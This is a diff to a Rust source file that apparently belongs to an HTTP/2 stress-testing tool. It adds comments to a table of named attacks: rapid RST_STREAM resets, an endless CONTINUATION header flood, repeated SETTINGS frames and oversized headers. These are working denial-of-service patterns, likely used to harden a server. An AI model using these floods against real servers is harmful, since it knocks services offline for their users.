@@ -753,6 +753,7 @@ pub(crate) fn table() -> Vec<Attack> {
                     .flat_map(|i| {
                         let id = stream(turn, i);
                         let mut bytes = connection.request(id, "GET", THINGS, &[], true);
+                        // Error code 8 is CANCEL.
                         bytes.extend(frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
                         bytes
                     })
@@ -794,6 +795,7 @@ pub(crate) fn table() -> Vec<Attack> {
         ),
         Attack::program("http2/continuation", "a head that never ends", |scene| {
             flood(scene, 2, |connection, turn| {
+                // Without END_HEADERS, the server has to wait for more of the head.
                 if turn == 0 {
                     return frame(HEADERS, 0, 1, &connection.block("GET", "/api", &[]));
                 }
@@ -816,6 +818,7 @@ pub(crate) fn table() -> Vec<Attack> {
         ),
         Attack::program("http2/settings", "settings over and over", |scene| {
             flood(scene, 2, |_, _| {
+                // Setting 3 is SETTINGS_MAX_CONCURRENT_STREAMS.
                 frame(SETTINGS, 0, 0, &[0, 3, 0, 0, 0, 100]).repeat(200)
             })
         }),
@@ -833,6 +836,7 @@ pub(crate) fn table() -> Vec<Attack> {
         Attack::program("http2/large-head", "heads of 200 kB", |scene| {
             flood(scene, 2, |connection, turn| {
                 let value = "a".repeat(15_000);
+                // Flag 1 is END_STREAM; END_HEADERS follows in the last continuation.
                 let mut bytes = frame(HEADERS, 1, turn * 2 + 1, &connection.block("GET", "/api", &[]));
                 for i in 0..13 {
                     let mut block = Vec::new();
